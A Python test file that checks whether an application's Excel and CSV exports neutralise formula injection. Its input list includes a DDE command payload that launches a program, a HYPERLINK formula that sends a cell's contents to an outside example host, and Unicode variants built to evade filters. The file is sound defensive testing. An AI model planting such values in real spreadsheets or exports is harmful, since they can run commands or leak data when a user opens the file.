"""What begins like a formula stays words in the files that are made, as they are when they are opened again."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree.ElementTree import Element, fromstring

from app.collation.tables import HEADINGS, Cell, Sheets, csv_lines, workbook

WORDS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "+44 1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =1+1",
    "'=1+1",
    '"=1+1',
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\xa0=1+1",
    "\u3000 =1+1",
    "\u200b=1+1",
    "https://example.org/",
    "mailto:somebody@example.org",
    "00123",
    "1e5",
]
LIKE_A_FORMULA = re.compile(
    "[^\\w{]*?[=+\\-@\\t\uff1d\uff0b\uff0d\uff20]"
)  # whatever stands before it that is no letter
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def opened(path: Path) -> tuple[list[str], list[str], list[Element]]:
    """A workbook as a program reads it: the names of its parts, its shared strings, and its cells."""
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        strings = fromstring(book.read("xl/sharedStrings.xml")) if "xl/sharedStrings.xml" in names else Element("none")
        sheets = [fromstring(book.read(name)) for name in names if name.startswith("xl/worksheets/sheet")]
    shared = ["".join(text.text or "" for text in item.iter(f"{MAIN}t")) for item in strings.iter(f"{MAIN}si")]
    return names, shared, [cell for sheet in sheets for cell in sheet.iter(f"{MAIN}c")]


def words_in(cell: Element, shared: list[str]) -> str | None:
    """The text of a cell that is text; None for a number."""
    if cell.get("t") == "inlineStr":
        return "".join(text.text or "" for text in cell.iter(f"{MAIN}t"))
    return shared[int(cell.findtext(f"{MAIN}v") or 0)] if cell.get("t") == "s" else None


def test_a_workbook_that_is_opened_again_holds_words_and_no_formula_and_no_link(tmp_path: Path) -> None:
    rows: list[list[Cell]] = [[text, text, 7] for text in WORDS]
    about = [(text, text) for text in WORDS]
    workbook(tmp_path / "made.xlsx", Sheets(about, rows, rows, rows, rows, rows))
    names, shared, cells = opened(tmp_path / "made.xlsx")
    assert not [name for name in names if any(part in name for part in ("externalLinks", "_rels/sheet", "connections"))]
    assert {cell.get("t", "n") for cell in cells} <= {"inlineStr", "s", "n"}
    assert [cell.attrib for cell in cells if cell.find(f"{MAIN}f") is not None] == []
    found = [words_in(cell, shared) for cell in cells]
    assert all(found.count(text) == 2 * 6 for text in WORDS)
    numbers = [cell.findtext(f"{MAIN}v") for cell in cells if cell.get("t", "n") == "n" and len(cell)]
    assert numbers == ["7"] * 5 * len(WORDS)


def test_no_cell_of_a_csv_file_that_is_read_again_begins_like_a_formula() -> None:
    lines = b"".join(csv_lines([[text] * len(HEADINGS) for text in WORDS])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(lines, newline="")))[1:]
    cells = [cell for row in rows for cell in row]
    assert len(cells) == len(WORDS) * len(HEADINGS)
    assert [cell for cell in cells if LIKE_A_FORMULA.match(cell) and not cell.startswith("'")] == []
    assert all(row[0] in (text, f"'{text}") for row, text in zip(rows, WORDS, strict=True)), "and else as it was"
